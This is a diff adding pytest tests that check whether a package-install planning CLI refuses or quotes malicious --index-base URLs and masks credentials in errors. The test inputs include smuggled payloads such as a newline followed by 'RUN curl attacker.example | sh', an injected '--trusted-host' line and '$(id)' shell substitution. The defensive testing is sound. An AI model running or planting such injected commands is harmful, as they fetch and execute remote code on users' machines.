@@ -90,3 +90,42 @@ def test_read_regular_stops_at_the_limit_of_an_endless_file() -> None:
     with pytest.raises(OSError, match="not a regular file"):
         read_regular("/dev/zero", 10)
     assert read_regular(__file__, 7) == b'"""Host'
+
+
+# ---- index base URLs --------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("base", [
+    "https://mirror.example/whl\n--trusted-host mirror.example",
+    "https://mirror.example/whl\nRUN curl attacker.example | sh",
+    "https://mirror.example/my whl",
+    "https://mirror.example/whl\"\nexplicit = false",
+    "https://mirror.example/wh'l",
+    "https://mirror.example/${HOME}",
+    "https://mirror.example/wh\x1bl",
+    "https://mirror.example/whl\rx",
+])
+@pytest.mark.parametrize("fmt", ["requirements", "dockerfile", "pyproject", "pip"])
+def test_index_base_that_could_break_a_rendered_line_is_refused(base: str, fmt: str) -> None:
+    done = cli("plan", "--variant", "cpu", "--os", "linux", "--arch", "x86_64", "--python", "3.12",
+               "--index-base", base, "--format", fmt)
+    assert done.returncode == 2 and done.stdout == ""
+    assert len(done.stderr.splitlines()) == 1 and "--index-base" in done.stderr
+
+
+def test_index_base_with_shell_characters_is_quoted_in_every_command() -> None:
+    import shlex
+
+    base = "https://mirror.example/$(id)&x;y"
+    done = cli("plan", "--variant", "cpu", "--os", "linux", "--arch", "x86_64", "--python", "3.12",
+               "--index-base", base, "--format", "pip")
+    assert done.returncode == 0, done.stderr
+    assert shlex.split(done.stdout)[-1] == f"{base}/cpu"
+
+
+def test_index_base_credentials_are_never_printed() -> None:
+    for flag in (["--index-base", "https://alice:s3cret@mirror.example/whl"], ["--index-base", "https://[::1"]):
+        done = cli("plan", "--variant", "cpu", "--os", "linux", "--arch", "x86_64", "--python", "3.12", *flag)
+        assert done.returncode == 2 and len(done.stderr.splitlines()) == 1, done.stderr
+        assert "s3cret" not in done.stderr and "alice" not in done.stderr
+    done = cli("plan", "--variant", "cpu", env={"TORCH_INSTALL_INDEX_BASE": "https://bob:hunter2@mirror.example/"})
+    assert done.returncode == 2 and "hunter2" not in done.stderr and "***@mirror.example" in done.stderr
